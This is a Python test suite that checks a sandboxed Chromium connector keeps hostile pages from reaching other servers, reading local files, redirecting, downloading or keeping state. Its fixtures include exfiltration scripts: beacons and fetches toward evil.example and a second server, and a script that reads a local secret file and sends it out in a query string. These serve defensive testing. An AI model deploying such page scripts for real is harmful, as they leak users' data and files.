"""A real Chromium in front of pages that want more than they are entitled to: nothing leaves."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import sys
from collections.abc import Callable
from pathlib import Path

import psutil
import pytest

from connectors.transport.browser import Browser
from gridapp.contract import Misconfigured, Unavailable
from tests.conftest import Until
from tests.connectors.transport.raw_server import reply
from tests.connectors.transport.stage import Stage, Story, browsers, html

# --- Nothing leaves ------------------------------------------------------------------------------------------------

GREEDY = """<title>greedy</title>
<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="{elsewhere}">
<link rel=prefetch href="{elsewhere}/prefetch"><link rel=stylesheet href="{elsewhere}/style.css">
<img src="{elsewhere}/img"><iframe src="{elsewhere}/frame"></iframe><script src="{elsewhere}/script"></script>
<img src="http://localhost:{port}/by-name"><img src="http://[::1]:{port}/by-v6"><img src="//evil.example/dns">
<form id=f action="{elsewhere}/form" method=post target=hidden><input name=a value=b></form>
<iframe name=hidden></iframe>
<script>
  navigator.sendBeacon('{elsewhere}/beacon', 'x');
  fetch('{elsewhere}/fetch', {{mode: 'no-cors', method: 'POST', body: 'x'}}).catch(() => 0);
  try {{ new WebSocket('{elsewhere}/socket'.replace('http', 'ws')); }} catch (e) {{}}
  try {{
    const call = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{udp}'}}]}});
    call.createDataChannel('x'); call.createOffer().then(offer => call.setLocalDescription(offer));
  }} catch (e) {{}}
  document.getElementById('f').submit();
  setTimeout(() => fetch('done'), 1500);
</script>"""


def test_a_page_reaches_nobody_but_its_own_server(play: Callable[[Story], Stage]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)

        async def story(stage: Stage) -> None:
            elsewhere = stage.elsewhere.url.removesuffix("/in")
            port = elsewhere.rpartition(":")[2]
            done = asyncio.Event()
            visit = await stage.browser.visit()
            visit.page.on("request", lambda request: done.set() if request.url.endswith("/done") else None)
            stage.pages["/in"] = html(GREEDY.format(elsewhere=elsewhere, port=port, udp=udp.getsockname()[1]))
            await visit.open()
            await asyncio.wait_for(done.wait(), 10)

        stage = play(story)

        assert stage.elsewhere.connections == 0
        assert set(stage.paths()) <= {"/in", "/done", "/favicon.ico"}
        with pytest.raises(BlockingIOError):
            udp.recv(100)


@pytest.mark.parametrize("where", ["302", "307", "script", "meta"])
def test_a_page_cannot_send_the_browser_somewhere_else(play: Callable[[Story], Stage], where: str) -> None:
    async def story(stage: Stage) -> None:
        to = stage.elsewhere.url
        pages = {
            "302": reply("302 Found", b"", f"Location: {to}"),
            "307": reply("307 Temporary Redirect", b"", f"Location: {to}"),
            "script": html(f"<script>location='{to}'</script>"),
            "meta": html(f"<meta http-equiv=refresh content='0;url={to}'>"),
        }
        visit = await stage.visit("<form action=next method=post><input name=a value=b><input type=submit>")
        stage.pages["/next"] = pages[where]
        with pytest.raises(Misconfigured, match="redirect"):
            await visit.press(visit.page.locator("input[type=submit]"))
            async with visit.looking():
                await visit.page.wait_for_event("requestfailed", timeout=30_000)

    stage = play(story)

    assert stage.elsewhere.connections == 0


def test_files_of_the_machine_stay_there(play: Callable[[Story], Stage], tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret of this machine")
    page = f"""<title>reader</title><iframe id=f src="{secret.as_uri()}"></iframe><img src="{secret.as_uri()}">
      <a id=a href="{secret.as_uri()}">file</a><script>
      const tell = what => fetch('leak?' + encodeURIComponent(what));
      fetch('{secret.as_uri()}').then(r => r.text()).then(tell, () => tell('refused'));
      onload = () => {{ try {{ tell(document.getElementById('f').contentDocument.body.innerText); }}
        catch (e) {{ tell('shut'); }} }};</script>"""

    async def story(stage: Stage) -> None:
        visit = await stage.visit(page)
        with pytest.raises((Unavailable, Misconfigured)):
            await visit.press(visit.page.locator("#a"))
        assert "secret of this machine" not in await visit.page.content()
        frames = [await one.content() for one in visit.page.frames]
        assert not [text for text in frames if "secret of this machine" in text]

    stage = play(story)

    assert "/leak?refused" in stage.paths()
    assert not [path for path in stage.paths() if "secret" in path]


def test_a_download_stops_everything_and_leaves_no_file(play: Callable[[Story], Stage], until: Until) -> None:
    async def story(stage: Stage) -> None:
        visit = await stage.visit("<a href=report>report</a>")
        attachment = "Content-Disposition: attachment; filename=report.xlsx"
        stage.pages["/report"] = reply("200 OK", b"MARK" * 1000, attachment)
        with pytest.raises(Misconfigured, match="下载"):
            await visit.press(visit.page.locator("a"))
        homes = [Path(one.environ()["HOME"]) for one in browsers()]
        assert homes
        # Chromium takes a file up before it hears that it may not, and deletes it when it has.
        until(lambda: not any(map(_marked, homes)), why="the downloaded file stays")

    play(story)


def _marked(home: Path) -> list[Path]:
    found = []
    for path in home.rglob("*"):
        with contextlib.suppress(FileNotFoundError):  # gone since it was listed
            if path.is_file() and b"MARKMARK" in path.read_bytes():
                found.append(path)
    return found


def test_a_window_nobody_asked_for_stops_everything(play: Callable[[Story], Stage]) -> None:
    async def story(stage: Stage) -> None:
        visit = await stage.visit("<a href=# onclick=\"window.open('about:blank')\">more</a>")
        with pytest.raises(Misconfigured, match="窗口"):
            await visit.press(visit.page.locator("a"))

    play(story)


def test_the_browser_knows_nothing_of_our_environment(play: Callable[[Story], Stage]) -> None:
    async def story(stage: Stage) -> None:
        await stage.visit()
        parts = [part for one in browsers() for part in (one, *one.children(recursive=True))]
        assert len(parts) > 1
        assert [part for part in parts if "SECRET_OF_THE_SERVER" in environment(part)] == []

    play(story)


def test_nothing_is_kept_from_one_visit_to_the_next(play: Callable[[Story], Stage]) -> None:
    remember = "<script>document.cookie='who=me;max-age=999';localStorage.who='me'</script>"
    tell = "<script>fetch('seen?'+document.cookie+localStorage.who)</script>"

    async def story(stage: Stage) -> None:
        await stage.visit(remember)
        visit = await stage.visit(tell)
        await visit.page.wait_for_load_state("networkidle")

    stage = play(story)

    assert "/seen?undefined" in stage.paths()


# --- No browser ----------------------------------------------------------------------------------------------------


def refused(url: str = "http://127.0.0.1:1/") -> Misconfigured | Unavailable:
    async def story() -> None:
        async with Browser(url, deadline=2) as browser:
            visit = await browser.visit()
            await visit.open()

    try:
        asyncio.run(story())
    except (Misconfigured, Unavailable) as error:
        return error
    raise AssertionError("it went well")


def test_a_machine_without_a_browser_says_what_to_do(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv("BROWSER_PATH", raising=False)
    monkeypatch.setenv("PATH", str(tmp_path))

    error = refused()

    assert isinstance(error, Misconfigured)
    assert error.code == "browser" and "apt-get install chromium" in error.reason


def test_a_path_that_is_no_program_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BROWSER_PATH", "/nowhere/chromium")

    assert "/nowhere/chromium" in str(refused())


def test_a_program_that_is_no_browser_is_for_the_operator(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BROWSER_PATH", sys.executable)

    error = refused()

    assert isinstance(error, Misconfigured) and error.code == "browser"


def test_without_playwright_it_says_how_to_get_it(monkeypatch: pytest.MonkeyPatch, browser_path: str) -> None:
    monkeypatch.setenv("BROWSER_PATH", browser_path)
    monkeypatch.setitem(sys.modules, "playwright.async_api", None)

    assert "gridapp[browser]" in str(refused())


@pytest.mark.parametrize(
    "url", ["", "station.example", "file:///etc/passwd", "ftp://h/", "http://", "http://u:p@h/", "http://h:99999/"]
)
def test_an_address_that_is_none_is_for_the_operator(url: str) -> None:
    with pytest.raises(Misconfigured, match="url"):
        Browser(url, deadline=1)


def test_a_target_that_is_down_is_unavailable_and_certainly_not_sent(
    monkeypatch: pytest.MonkeyPatch, browser_path: str
) -> None:
    monkeypatch.setenv("BROWSER_PATH", browser_path)
    monkeypatch.setenv("BROWSER_SANDBOX", "0")

    with socket.create_server(("127.0.0.1", 0)) as closed_again:
        port = closed_again.getsockname()[1]

    error = refused(f"http://127.0.0.1:{port}/")

    assert isinstance(error, Unavailable)
    assert not error.maybe_sent and "连不上" in error.reason


def environment(process: psutil.Process) -> dict[str, str]:
    """What a process was given; {} where it has ended meanwhile."""
    try:
        given: dict[str, str] = process.environ()
    except psutil.NoSuchProcess:
        return {}
    return given
